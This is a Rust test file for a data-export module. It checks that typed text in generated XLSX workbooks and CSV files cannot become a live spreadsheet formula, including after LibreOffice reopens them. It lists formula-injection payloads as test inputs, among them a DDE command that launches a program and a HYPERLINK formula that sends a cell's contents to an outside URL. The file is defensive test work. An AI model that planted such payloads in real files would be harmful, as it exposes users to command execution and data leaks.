//! Texts that leave: whatever somebody typed, no spreadsheet takes it for a formula, and it can be had back.

use std::collections::BTreeMap;
use std::io::Cursor;

use aggregation::observations::ObservationRow;
use calamine::{Data, Reader as _, Xlsx};
use export::data::{Format, neutral, observations, original};
use schema::{CellKey, Lang, Profile, Submission, Value};
use support::annotated::{annotations, workbook as annotated};
use support::grid::{Grid, grids, text};
use support::office::{csv_opened, save_again};
use support::reading::{check, read, workbook};
use support::samples::{document, sample};

/// What people type, and what somebody types who means harm.
const TEXTS: [&str; 20] = [
    "=1+1",
    "=HYPERLINK(\"http://example.org/?x=\"&A1,\"click\")",
    "+1 234 567",
    "-5",
    "- see annex",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "＝1+1",
    " =1+1",
    "\u{A0}@x",
    "\"=1+1\"",
    "'=1+1",
    "';=1+1",
    ",=1+1",
    "'s-Hertogenbosch",
    "http://example.org/",
    "mailto:a@example.org",
    "_x0041_",
    "{=1+1}",
    "one\n=1+1",
];

/// A return that says such things wherever it can.
fn saying(texts: &[&str]) -> Submission {
    let mut submission = sample("XDA", 2025, Lang::En, Profile::Core);
    let mut next = texts.iter().cycle();
    for cell in submission.response.cells.values_mut() {
        if let Some(Value::Text(said)) = &mut cell.value {
            *said = (*next.next().unwrap()).into();
        }
    }
    let mut rows: BTreeMap<_, &str> = BTreeMap::new();
    for (key, cell) in submission.response.cells.iter_mut().filter(|(key, _)| key.table == "SZ.TYPE") {
        cell.note = Some((*rows.entry(key.row.clone()).or_insert_with(|| next.next().unwrap())).into());
    }
    // Findings, so that there is something to explain.
    submission.response.cells.get_mut(&CellKey::count("SZ.TYPE", "TOTAL")).unwrap().value =
        Some(Value::Count(1));
    submission
}

/// The sheets of a workbook that hold a formula.
fn with_formulas(bytes: &[u8]) -> Vec<String> {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
    let names = book.sheet_names();
    names.into_iter().filter(|name| book.worksheet_formula(name).unwrap().used_cells().count() > 0).collect()
}

/// The cells of a sheet of findings, by column.
fn explanations(sheets: &[(String, Grid)]) -> Vec<String> {
    let (_, sheet) = sheets.iter().find(|(name, _)| name == "Findings").unwrap();
    sheet.values().filter_map(|cells| cells.get(&7)).map(text).filter(|text| !text.is_empty()).collect()
}

/// The return in its workbook with findings, each explained by one of the texts.
fn explained(submission: &Submission, texts: &[&str]) -> Vec<u8> {
    let (_, findings) = check(&workbook(submission, Lang::En));
    let mut annotations = annotations(submission, &findings, &[]);
    assert!(!annotations.is_empty());
    for (annotation, text) in annotations.iter_mut().zip(texts.iter().cycle()) {
        annotation.explanation = Some((*text).to_owned());
    }
    annotated(submission, Some(&submission.response), &annotations, Lang::En)
}

#[test]
fn no_text_of_a_return_is_a_formula_in_a_workbook_also_after_libreoffice() {
    // As it is read: spaces before a text are no part of it.
    let submission = read(document(&saying(&TEXTS)).to_string().as_bytes()).0;
    let (folder, saved) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let books = [
        ("filled.xlsx".to_owned(), workbook(&submission, Lang::En)),
        ("annotated.xlsx".to_owned(), explained(&submission, &TEXTS)),
    ];
    for (name, bytes) in &books {
        std::fs::write(folder.path().join(name), bytes).unwrap();
    }
    let names: Vec<_> = books.iter().map(|(name, _)| name.clone()).collect();
    save_again(folder.path(), &names, saved.path());
    for (name, before) in &books {
        let after = std::fs::read(saved.path().join(name)).unwrap();
        for bytes in [before, &after] {
            assert_eq!(with_formulas(bytes), ["Check"], "{name}: the live checks alone are formulas");
            let said = document(&read(bytes).0);
            assert_eq!(said["tables"], document(&submission)["tables"], "{name}");
        }
        if name == "annotated.xlsx" {
            assert_eq!(explanations(&grids(&after)), explanations(&grids(before)));
            assert!(explanations(&grids(before)).contains(&"=1+1".to_owned()));
        }
    }
}

#[test]
fn texts_of_the_largest_size_and_beyond_do_not_stop_an_export() {
    for (one, units) in [("=", 1), ("\u{1F600}", 2)] {
        for length in [32_767 / units, 32_768 / units] {
            let long = one.repeat(length);
            let submission = saying(&[&long]);
            let sheets = grids(&explained(&saying(&["short"]), &[&long]));
            let bytes = annotated(&submission, Some(&submission.response), &[], Lang::En);
            let cells = [grids(&bytes), sheets].concat();
            let cells = cells.iter().flat_map(|(_, grid)| grid.values().flat_map(BTreeMap::values)).map(text);
            let longest: Vec<String> =
                cells.filter(|text| text.starts_with(one) && text.len() > 9_000).collect();
            assert!(longest.len() > 2, "{one} × {length}");
            for text in longest {
                assert!(text.encode_utf16().count() <= 32_767);
                assert!(text == long || text.ends_with(" […]"), "cut where nobody sees it");
            }
        }
    }
}

fn row(text: &str, number: f64) -> ObservationRow {
    ObservationRow {
        ref_area: "XDA".into(),
        area_name: "Testland".into(),
        region: String::new(),
        subregion: String::new(),
        time_period: 2025,
        table_id: "SZ.TYPE".into(),
        table_label: "Arms seized".into(),
        row_code: "PISTOL".into(),
        row_label: text.into(),
        column_code: "COUNT".into(),
        obs_value: Some(number),
        obs_text: String::new(),
        unit: "arms".into(),
        availability: "V",
        obs_status: "A",
        conf_status: "F",
        included_in: String::new(),
        source: String::new(),
        note: text.into(),
        origin_upload: String::new(),
        origin: String::new(),
    }
}

#[test]
fn no_text_of_a_data_file_is_a_formula_in_libreoffice_and_numbers_are_numbers() {
    let folder = tempfile::tempdir().unwrap();
    // The program does evaluate what it is asked to: without this the test would prove nothing.
    std::fs::write(folder.path().join("raw.csv"), "a,b\n=1+1,2\n").unwrap();
    let raw = csv_opened(folder.path(), "raw.csv");
    assert_eq!(with_formulas(&raw).len(), 1, "LibreOffice evaluates no CSV here");
    let rows: Vec<_> = TEXTS.iter().map(|text| row(text, -5.0)).collect();
    let mut out = Vec::new();
    observations(&rows, Format::Csv, &mut out).unwrap();
    std::fs::write(folder.path().join("data.csv"), out).unwrap();
    let opened = csv_opened(folder.path(), "data.csv");
    assert!(with_formulas(&opened).is_empty());
    let (_, grid) = grids(&opened).remove(0);
    for (line, typed) in (1..).zip(TEXTS) {
        assert_eq!(grid[&line][&10], Data::Float(-5.0), "a negative number is no text");
        let shown = text(&grid[&line][&18]);
        assert_eq!(shown, neutral(typed));
        assert_eq!(original(&shown), typed);
    }
}
